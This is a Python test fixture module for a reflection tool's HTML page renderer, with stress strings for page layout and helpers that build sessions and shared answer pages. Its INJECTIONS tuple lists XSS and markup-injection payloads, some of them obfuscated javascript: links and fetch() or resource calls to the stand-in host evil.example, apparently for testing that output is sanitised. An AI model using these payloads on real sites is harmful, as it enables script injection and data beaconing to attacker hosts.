"""Words that are hard to lay out, and pages made of them."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Final

from partnership_cli.formats.html_pages import render_together_html
from partnership_cli.framework.loader import load_framework
from partnership_cli.framework.model import Framework
from partnership_cli.reflection.session import Answer, Session
from partnership_cli.reflection.together import Contribution, SharedAnswer, compare_answers

STARTED: Final = datetime(2026, 11, 23, 17, 31, 5, tzinfo=UTC)
LONG_WORD: Final = "Donaudampfschifffahrtsgesellschaft" * 12
RICH: Final = f"""# My own heading

At first I thought we would *agree* on everything. We did not, and **that was useful**.
The next line begins below.

- We met on Tuesdays
  - with tea, {LONG_WORD}
- and wrote ~~nothing~~ a little down

> You said: let us begin again.
>> And again.

| When | Who decided | | What for | And then | After that | In the end | At the very end |
|---|:-:|--:|---|---|---|---|---|
| October | both | 2 | the reading list | the second reading list | x | y | {LONG_WORD} |

```python
print("{LONG_WORD}")
```

1500. A long number, `{LONG_WORD}`

See <https://example.org/{LONG_WORD}> and [our notes](https://example.org "shared").

![a drawing of a bridge](https://example.org/bridge.png)
"""
ORDINARY: Final = """We met on Tuesdays, which was a responsibility that nobody had expected.

| who | decides now | could decide | remark |
|---|---|---|---|
| Amina | the agenda | the reading list | extraordinarily |
| Sam | the room | the assessment brief | unfortunately |

| Monday | Tuesday | Wednesday | Thursday | Friday | Saturday | Sunday | responsibilities |
|---|---|---|---|---|---|---|---|
| interdisciplinary | meeting | misunderstanding | x | y | z | rest | acknowledgement |
"""
"""Words that a card has room for, in tables that it has not."""
ARABIC: Final = "في البداية لم أكن أعرف ماذا أقول.\n\n- ثم تحدثنا\n- وتعلمنا (2026)"
PLAIN: Final = (
    "I had expected to be asked for my opinion, and then to be thanked.\n\nWhat happened was "
    "slower. We kept coming back to who decides, and I am still not sure. It mattered that "
    "nobody was in a hurry."
)
INJECTIONS: Final = (
    "<script>fetch('https://evil.example/1')</script>",
    "<img src=https://evil.example/2 onerror=fetch('https://evil.example/3')>",
    "<svg onload=fetch('https://evil.example/4')><image href='https://evil.example/5'/></svg>",
    "<style>@import 'https://evil.example/6'; footer{display:none}</style>",
    "</div></section></main><footer hidden><link rel=stylesheet href=https://evil.example/7>",
    "</title></style><base href=https://evil.example/><meta http-equiv=refresh content='0;url=/'>",
    "<iframe src=https://evil.example/8></iframe><object data=https://evil.example/9></object>",
    "<p style='background:url(https://evil.example/10)'>x</p><video src=https://evil.example/11>",
    "<form action=https://evil.example/12><button autofocus onfocus=alert(1)>x</button></form>",
    "![x](https://evil.example/13) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#9;script:alert(1)) "
    "[d](&#x6a;avascript:alert(1)) [e](\x01javascript:alert(1)) <javascript:alert(1)> "
    "[f](vbscript:x) [g](data:text/html,<script>alert(1)</script>) [h](//evil.example/14) "
    "[i](file:///etc/passwd) [j](java\nscript:x) [k](blob:x) [l](<javascript&colon;alert(1)>)",
    "[x](https://evil.example/15 \"onmouseover='alert(1)'\") <https://a.example/'onclick='x>",
    "[r]: https://evil.example/16\n\n[r] ![r]",
    "```<img src=https://evil.example/17>\n</code></pre><script>alert(1)</script>",
    "<!-- --!> <![CDATA[ <plaintext> <noscript><textarea>",
    "| <b onclick=alert(1)> |\n|:-:|\n| ![](https://evil.example/18) |",
    "---\ntitle: <script>alert(1)</script>\n---\n\n# </h1><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=https://evil.example/19&#62;",
)


def make_session(title: str, *texts: str, partners: tuple[str, ...] = ("Sam", "ليلى")) -> Session:
    framework = load_framework().framework
    asked = [question for _, question in load_framework().questions()]
    return Session(
        id="20261123t173105z-k7m2q9",
        title=title,
        started=STARTED,
        framework=framework.id,
        partners=partners,
        answers=tuple(
            Answer(question=one.id, text=one.text, answer=text, written=STARTED)
            for one, text in zip(asked, texts, strict=False)
        ),
    )


def make_together(
    framework: Framework, *people: tuple[str, tuple[str, ...]], large: bool = False
) -> str:
    asked = [question for _, question in framework.questions()]
    page = compare_answers(
        [
            Contribution(
                name,
                "fern otter lake",
                tuple(
                    SharedAnswer(one.id, one.text, text)
                    for one, text in zip(asked, texts, strict=False)
                    if text
                ),
            )
            for name, texts in people
        ],
        [question.id for question in asked],
    )
    return render_together_html(page, framework.framework, large=large)
